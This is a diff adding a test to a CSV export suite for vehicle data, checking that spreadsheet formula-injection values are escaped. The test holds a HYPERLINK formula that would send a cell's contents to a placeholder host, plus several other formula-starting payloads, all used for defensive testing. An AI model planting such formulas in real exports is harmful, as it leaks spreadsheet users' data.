@@ -186,6 +186,33 @@ describe('CSV', () => {
     const [, row]: string[][] = parse(readFileSync(path.join(dir, 'sources.csv'), 'utf8'));
     expect(row![2]).toBe(source.title);
   });
+
+  it('neutralises a text cell a spreadsheet would run as a formula, in a hostile row the checks never saw', () => {
+    const dir = mkdtempSync(path.join(os.tmpdir(), 'ev-csv-'));
+    const writer = new CsvExport(dir);
+    const hostile = [
+      '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+    ];
+    const vehicle = vehicles.find((v) => v.battery_kwh_usable !== null)!;
+    writer.vehicle({ ...vehicle, brand: hostile[0]!, family: hostile[1]!, trim: hostile[2]! });
+    writer.finish(hostile.map((title, i) => ({ ...citedSources[0]!, id: `hostile-${i}`, title })));
+    const [header, row]: string[][] = parse(readFileSync(path.join(dir, 'vehicles.csv'), 'utf8'));
+    const field = (name: string) => row![header!.indexOf(name)];
+    expect([field('brand'), field('family'), field('trim')]).toEqual(hostile.slice(0, 3).map((text) => `'${text}`));
+    // Numbers stay numbers: a negative figure is not text, and is written as the JSON has it.
+    expect(field('battery_kwh_usable')).toBe(String(vehicle.battery_kwh_usable));
+    const [, ...sources]: string[][] = parse(readFileSync(path.join(dir, 'sources.csv'), 'utf8'), {
+      relax_quotes: true,
+    });
+    expect(sources.map((source) => source[2])).toEqual(hostile.map((text) => `'${text}`));
+    // No cell of the file starts a formula once read back, whatever a spreadsheet makes of quotes.
+    for (const cellText of [...row!, ...sources.flat()]) expect(cellText, cellText).not.toMatch(/^[=+\-@\t\r]/);
+  });
 });
 
 describe('dataset.sqlite, read with the sqlite3 command-line tool', () => {
